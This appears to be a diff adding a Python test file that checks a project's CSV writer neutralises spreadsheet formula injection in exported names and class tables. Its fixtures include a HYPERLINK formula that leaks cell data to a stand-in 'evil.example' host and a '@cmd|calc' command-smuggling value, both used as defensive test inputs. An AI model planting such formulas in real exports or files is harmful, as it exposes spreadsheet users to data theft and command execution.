@@ -1,0 +1,68 @@
+"""Every CSV AffectLab writes goes through :mod:`db.csvfile`: names people type never reach a spreadsheet as a
+formula (class tables included), numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pandas as pd
+
+from db.csvfile import FORMULA_PREFIXES, neutralise_cell, write_frame
+from tests.test_db_classes import _by_index, _ingest
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def _cells(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as fh:
+        return [cell for row in csv.reader(fh) for cell in row]
+
+
+def test_the_writer_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
+    df = pd.DataFrame({"name": [HOSTILE, "@SUM(1)", "+1", "plain", None], "valence": [-0.5, 1.0, 0.0, 2.0, 3.0]})
+    out = write_frame(df, tmp_path / "t.csv")
+    back = pd.read_csv(out)
+    assert list(back["valence"]) == [-0.5, 1.0, 0.0, 2.0, 3.0], "numbers stay numbers"
+    assert not [c for c in _cells(out) if c.startswith(FORMULA_PREFIXES) and c not in ("-0.5",)]
+    assert back["name"][0] == "'" + HOSTILE and neutralise_cell(neutralise_cell(HOSTILE)) == "'" + HOSTILE
+    assert out.read_bytes().count(b"\r\n") == 6
+
+
+def test_class_tables_are_written_by_the_one_writer(store, tmp_path: Path) -> None:
+    mid = _ingest(store)
+    csv_in = tmp_path / "segments.csv"
+    csv_in.write_text(f'media,name,start_s,end_s\n{mid},"@cmd|calc",0,30\n')
+    store.import_segments("class", csv_in)
+    person = _by_index(store, mid)[0]
+    store.rename_person(person.person_id, HOSTILE, "alice")
+    for table in ("class-segments", "class-minutes", "class-overall"):
+        out = tmp_path / f"{table}.csv"
+        store.export("class", table, out)
+        cells = _cells(out)
+        bad = [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _number(c)]
+        assert not bad, (table, bad)
+    text = (tmp_path / "class-segments.csv").read_text(encoding="utf-8")
+    assert "'" + HOSTILE.replace('"', '""') in text and "'@cmd|calc" in text
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_no_csv_is_written_around_the_writer() -> None:
+    """No module of db/, models/ or webapp/ calls DataFrame.to_csv or csv.writer but the writer itself and the
+    metadata file of exports (whose cells pass through neutralise_cell)."""
+    root = Path(__file__).resolve().parents[1]
+    offenders = []
+    for path in [*root.glob("db/*.py"), *root.glob("models/*.py"), *root.glob("webapp/**/*.py")]:
+        text = path.read_text(encoding="utf-8")
+        calls = text.count(".to_csv(") + text.count("csv.writer(") + text.count("csv.DictWriter(")
+        allowed = {"csvfile.py": 1, "exports.py": 1}.get(path.name, 0)
+        if calls > allowed:
+            offenders.append(f"{path.relative_to(root)}: {calls}")
+    assert not offenders, offenders
